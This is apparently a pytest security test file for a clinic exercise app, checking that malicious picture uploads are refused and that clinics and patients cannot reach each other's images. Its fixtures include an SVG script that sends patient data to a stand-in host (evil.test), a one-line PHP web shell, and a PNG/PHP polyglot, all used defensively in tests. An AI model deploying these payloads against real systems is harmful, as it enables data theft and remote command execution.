"""Issue 16: attacks on a clinic's exercise pictures (docs/clinic-exercises.md).

A picture upload is a file an attacker controls that other people's browsers will open. Each
attack goes through the public addresses (the settings page and the API) and must be refused
with a 400 or a page naming the field, leaving nothing stored:

- an SVG with a script in it (served as an image, it would run in our origin);
- a PHP script renamed ``.png`` and sent as ``image/png`` (the name and the claimed type lie);
- a real PNG with a PHP script glued after it (a polyglot): accepted only as its pixels, the
  stored file holds none of the script;
- an image over 2 MB, and one too large in pixels (a decompression bomb);
- a JPEG with EXIF metadata: stored without it.

And another clinic's picture, or a patient asking for a picture of an exercise not prescribed to
them, is a 404, its address guessed or not; the media folder has no public address.
"""

from __future__ import annotations

import io
import os

import pytest
from django.urls import reverse
from PIL import Image

from rehab.models import Exercise, Prescription
from tests.clinic_exercises.helpers import make_exercise, picture_bytes, upload, values

pytestmark = pytest.mark.django_db

SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="200" height="200">'
    b"<script>fetch('/api/v1/patients/').then(r=>r.text()).then(t=>fetch('//evil.test/?'+t))"
    b"</script><rect width='200' height='200'/></svg>"
)
PHP = b"<?php echo shell_exec($_GET['cmd']); ?>"


@pytest.fixture(autouse=True)
def _media_in_tmp(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def _stored_files(settings) -> list[str]:
    root = settings.MEDIA_ROOT
    return [os.path.join(d, f) for d, _, files in os.walk(root) for f in files]


ATTACKS = {
    "svg-with-script": (SVG_WITH_SCRIPT, "diagram.svg", "image/svg+xml"),
    "svg-renamed-png": (SVG_WITH_SCRIPT, "diagram.png", "image/png"),
    "php-renamed-png": (PHP, "shell.png", "image/png"),
    "html-as-jpeg": (b"<html><script>alert(1)</script></html>", "x.jpg", "image/jpeg"),
    "gif": (picture_bytes("GIF"), "anim.gif", "image/gif"),
    "over-2-mb": (
        picture_bytes("PNG") + os.urandom(2 * 1024 * 1024),
        "big.png",
        "image/png",
    ),
    "too-many-pixels": (picture_bytes("PNG", size=(6000, 6000)), "bomb.png", "image/png"),
    "too-small": (picture_bytes("PNG", size=(8, 8)), "dot.png", "image/png"),
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_page_refuses_the_upload_and_stores_nothing(cast, client_for, settings, attack):
    data, name, content_type = ATTACKS[attack]
    form = {**values(), "steps": "One step"}
    response = client_for(cast.therapist).post(
        reverse("clinic-exercise-new"), {**form, "image": upload(data, name, content_type)}
    )
    assert response.status_code == 200
    assert list(response.context["form"].errors) == ["image"]
    assert not Exercise.objects.filter(clinic=cast.clinic).exists()
    assert _stored_files(settings) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_api_refuses_the_upload_and_keeps_the_picture(cast, api, settings, attack):
    exercise = make_exercise(cast.therapist, picture=True)
    before = exercise.image.name
    data, name, content_type = ATTACKS[attack]
    response = api(cast.therapist).put(
        reverse("api-exercise-picture", args=[exercise.pk]),
        {"image": upload(data, name, content_type)},
        format="multipart",
    )
    assert response.status_code == 400, response.content
    assert "image" in response.json()
    exercise.refresh_from_db()
    assert exercise.image.name == before
    assert len(_stored_files(settings)) == 1


def test_a_polyglot_keeps_only_its_pixels(cast, client_for, settings):
    response = client_for(cast.therapist).post(
        reverse("clinic-exercise-new"),
        {**values(), "steps": "One", "image": upload(picture_bytes("PNG") + PHP, "x.php.png")},
    )
    assert response.status_code == 302
    exercise = Exercise.objects.get(clinic=cast.clinic)
    assert exercise.image.name.endswith(".png") and ".php" not in exercise.image.name
    with exercise.image.open("rb") as stored:
        content = stored.read()
    assert content.startswith(b"\x89PNG") and b"<?php" not in content


def test_metadata_is_stripped(cast, client_for):
    exif = Image.Exif()
    exif[0x010F] = "SpyCam"  # Make
    exif[0x8825] = {1: "N", 2: (51.0, 30.0, 0.0)}  # GPS
    data = picture_bytes("JPEG", exif=exif.tobytes())
    assert b"SpyCam" in data
    response = client_for(cast.therapist).post(
        reverse("clinic-exercise-new"),
        {**values(), "steps": "One", "image": upload(data, "photo.jpg", "image/jpeg")},
    )
    assert response.status_code == 302
    exercise = Exercise.objects.get(clinic=cast.clinic)
    with exercise.image.open("rb") as stored:
        content = stored.read()
    assert b"SpyCam" not in content
    assert not Image.open(io.BytesIO(content)).getexif()


def test_another_clinics_picture_is_404_by_every_address(cast, client_for, api):
    exercise = make_exercise(cast.other_therapist, name="Northside drill", picture=True)
    Prescription.objects.create(
        episode=cast.other_episode, exercise=exercise, name=exercise.name, sets=2,
        start_date=cast.other_episode.start_date,
    )  # fmt: skip
    for user in (cast.therapist, cast.admin, cast.patient_a.user):
        assert (
            client_for(user).get(reverse("exercise-image", args=[exercise.pk])).status_code == 404
        )
        assert api(user).get(reverse("api-exercise-picture", args=[exercise.pk])).status_code == 404
    # The owner clinic's staff still see it: the 404s above are reach, not a broken address.
    assert (
        client_for(cast.other_therapist)
        .get(reverse("exercise-image", args=[exercise.pk]))
        .status_code
        == 200
    )
    # The stored file has no public address.
    assert client_for(cast.admin).get("/media/" + exercise.image.name).status_code == 404


def test_a_patient_cannot_reach_a_picture_not_prescribed_to_them(cast, client_for):
    exercise = make_exercise(cast.therapist, picture=True)
    Prescription.objects.create(
        episode=cast.episode_b, exercise=exercise, name=exercise.name, sets=2,
        start_date=cast.episode_b.start_date,
    )  # fmt: skip
    url = reverse("exercise-image", args=[exercise.pk])
    assert client_for(cast.patient_a.user).get(url).status_code == 404
    assert client_for(cast.patient_b.user).get(url).status_code == 200
